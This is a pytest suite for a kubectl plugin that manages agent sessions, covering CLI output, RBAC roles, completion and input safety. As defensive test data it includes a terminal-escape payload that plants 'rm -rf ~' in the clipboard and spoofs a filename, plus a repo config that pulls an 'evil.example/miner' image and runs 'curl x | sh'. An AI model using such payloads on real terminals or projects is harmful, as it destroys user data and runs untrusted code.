"""CLI pieces that need no cluster: output, rbac, completion, help, usage errors."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from kodama.cli.output import sessions_table
from kodama.k8s.rbac import rbac_objects
from kodama.models import AgentState, AgentStateName, Session, Status
from tests.fixtures.repo import make_repo

BIN = Path(sys.executable).parent


def run(*args: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [str(BIN / "kubectl-kodama"), *args], capture_output=True, text=True, env=env, check=False
    )


def test_table_columns() -> None:
    s = Session(
        name="a",
        namespace="ns",
        status=Status.RUNNING,
        branch="kodama/a",
        agent=AgentState(state=AgentStateName.EXITED, exit_code=3),
        created_at=datetime.now(UTC),
    )
    lines = sessions_table([s], wide=False, all_namespaces=True).splitlines()
    assert lines[0].split() == ["NAMESPACE", "NAME", "STATUS", "AGENT", "BRANCH", "AGE"]
    assert lines[1].split()[:5] == ["ns", "a", "Running", "exited(3)", "kodama/a"]


def test_rbac_is_namespaced_only() -> None:
    role, binding = rbac_objects("team", None, "ci:runner")
    assert role["kind"] == "Role" and role["metadata"]["namespace"] == "team"
    assert binding["subjects"] == [{"kind": "ServiceAccount", "name": "runner", "namespace": "ci"}]
    verbs = {r["resources"][0]: set(r["verbs"]) for r in role["rules"]}
    assert "create" in verbs["pods/exec"] and "delete" in verbs["persistentvolumeclaims"]
    assert all("*" not in v for v in verbs.values())


def test_rbac_grants_secrets_by_name_only_and_no_unused_verbs() -> None:
    (role, *_) = rbac_objects("team", "alice", None)
    verbs = {r["resources"][0]: set(r["verbs"]) for r in role["rules"]}
    # Secret names are derived from the session name: nothing needs to enumerate them.
    assert verbs["secrets"] == {"get", "create", "delete"}
    assert "pods/log" not in verbs  # logs are read through exec
    # The language server watches the sessions' pods and PVCs (not secrets, not events).
    assert {k for k, v in verbs.items() if "watch" in v} == {"pods", "persistentvolumeclaims"}


def test_rbac_bindings_are_named_after_their_subject() -> None:
    alice = rbac_objects("team", "alice", None)
    bob = rbac_objects("team", None, "ci:bob")
    both = rbac_objects("team", "Alice@Example.com", "bob")
    names = [o["metadata"]["name"] for o in (*alice, *bob) if o["kind"] == "RoleBinding"]
    assert len(names) == 2 and len(set(names)) == 2
    assert alice[0] == bob[0]  # the Role itself is shared and identical
    pair = [o for o in both if o["kind"] == "RoleBinding"]
    assert [len(o["subjects"]) for o in pair] == [1, 1]
    assert pair[1]["subjects"][0] == {"kind": "ServiceAccount", "name": "bob", "namespace": "team"}
    for o in pair:
        name = o["metadata"]["name"]
        assert len(name) <= 63 and name == name.lower() and "@" not in name


def test_help_lists_verbs() -> None:
    out = run("--help").stdout
    for verb in ("start", "list", "get", "stop", "resume", "delete", "attach", "rbac", "version"):
        assert f"  {verb}" in out


def test_usage_error_is_one_line_exit_1() -> None:
    proc = run("get")  # `start` without NAME is valid: it names the session after the branch
    assert proc.returncode == 1
    assert proc.stderr.strip().startswith("error: Missing argument 'NAME'")
    assert len(proc.stderr.strip().splitlines()) == 1


def test_version_json() -> None:
    assert json.loads(run("version", "-o", "json").stdout)["kodama"]


def test_kubectl_completion_hook(tmp_path: Path) -> None:
    proc = subprocess.run(
        [str(BIN / "kubectl_complete-kodama"), "__complete", "st"],
        capture_output=True,
        text=True,
        check=False,
    )
    lines = proc.stdout.splitlines()
    assert lines[-1] == ":4"
    names = {line.split("\t")[0] for line in lines[:-1]}
    assert {"start", "stop"} <= names


@pytest.mark.parametrize("shell", ["zsh", "fish"])
def test_completion_scripts(shell: str) -> None:
    proc = run("completion", shell)
    assert proc.returncode == 0 and "_KUBECTL_KODAMA_COMPLETE" in proc.stdout


def test_config_schema_is_json() -> None:
    schema = json.loads(run("config", "schema").stdout)
    assert "resources" in schema["properties"]


def test_help_path_imports_no_heavy_modules() -> None:
    """`--help`, `version` and completion must not pay for pydantic or the kubernetes client."""
    code = (
        "import sys, kodama.cli.main; "
        "print(sorted(m for m in ('pydantic', 'kubernetes', 'yaml', 'rich') if m in sys.modules))"
    )
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert out.stdout.strip() == "[]"


HOSTILE = "done\x1b]52;c;cm0gLXJmIH4K\x07\x1b[2J\x9b1;1H\u202egnp.exe"


def _terminal_safe(text: str) -> bool:
    bad = [c for c in text if (ord(c) < 32 and c not in "\n\t") or 0x7F <= ord(c) <= 0x9F]
    return not bad and "\u202e" not in text


def test_pod_text_is_neutralised_in_get_list_and_logs() -> None:
    from kodama.agent.logs import render_line
    from kodama.cli.output import describe

    s = Session(
        name="a",
        namespace="ns",
        status=Status.RUNNING,
        branch="kodama/a\x1b[31m",
        agent=AgentState(state=AgentStateName.WAITING, message=HOSTILE),
    )
    shown = describe(s)
    assert _terminal_safe(shown) and "\\x1b]52" in shown and "\n" in shown
    assert _terminal_safe(sessions_table([s], wide=True, all_namespaces=False))
    plain = render_line(HOSTILE + "\n")
    event = render_line(json.dumps({"type": "result", "subtype": "ok", "result": HOSTILE}))
    assert plain is not None and event is not None
    assert _terminal_safe(plain) and _terminal_safe(event)


def test_progress_output_survives_markup_and_escapes(monkeypatch: pytest.MonkeyPatch) -> None:
    import io

    from kodama.cli.context import ProgressRenderer
    from kodama.events import Event, EventKind

    class Tty(io.StringIO):
        def isatty(self) -> bool:
            return True

    err = Tty()
    monkeypatch.setattr(sys, "stderr", err)
    monkeypatch.setenv("TERM", "xterm")
    render = ProgressRenderer()
    assert render.tty
    for kind in (EventKind.STEP, EventKind.STEP, EventKind.INFO, EventKind.WARNING, EventKind.DONE):
        render(Event(kind=kind, session="a", message=f"[/bold] [link=x] {HOSTILE} [red]"))
    render.close()
    out = err.getvalue()
    assert "[/bold]" in out and "\\x1b]52" in out and "\x1b]52" not in out


def test_naive_creation_time_does_not_break_list_or_get() -> None:
    from kodama.cli.output import describe

    naive = datetime.now(UTC).replace(tzinfo=None) - timedelta(minutes=5)
    s = Session(name="a", namespace="ns", status=Status.RUNNING, created_at=naive)
    assert "5m" in sessions_table([s], wide=False, all_namespaces=False)
    assert "Age:         5m" in describe(s)


def test_start_refuses_repo_config_changes_without_yes(tmp_path: Path) -> None:
    repo = make_repo(tmp_path / "repo")
    (repo / ".kodama.yaml").write_text(
        "image: evil.example/miner\nagent: {command: 'curl x | sh'}\nenv: {A: '1'}\n"
    )
    env = {**os.environ, "KODAMA_HOME": str(tmp_path / "home"), "KUBECONFIG": "/nonexistent"}
    proc = subprocess.run(
        [str(BIN / "kubectl-kodama"), "-n", "ns", "start", "s1", "--no-sync"],
        cwd=repo,
        capture_output=True,
        text=True,
        env=env,
        stdin=subprocess.DEVNULL,
        check=False,
    )
    assert proc.returncode == 1
    (line,) = proc.stderr.splitlines()
    assert line.startswith(
        f"error: {repo.resolve() / '.kodama.yaml'} sets image: evil.example/miner;"
    )
    assert "agent.command: curl x | sh; env.A: 1" in line and "--yes" in line
    # --yes gets past the question: the next error is the (missing) cluster.
    proc = subprocess.run(
        [str(BIN / "kubectl-kodama"), "-n", "ns", "start", "s1", "--no-sync", "--yes"],
        cwd=repo,
        capture_output=True,
        text=True,
        env=env,
        stdin=subprocess.DEVNULL,
        check=False,
    )
    assert proc.returncode == 1 and "sets image" not in proc.stderr


@pytest.mark.parametrize("args", [["--serviceaccount", "ns:Bad_Name"], ["--user", " "]])
def test_rbac_refuses_bad_subjects(args: list[str]) -> None:
    proc = run("-n", "team", "rbac", *args)
    assert proc.returncode == 1 and proc.stdout == ""
    assert proc.stderr.startswith("error: ") and len(proc.stderr.splitlines()) == 1
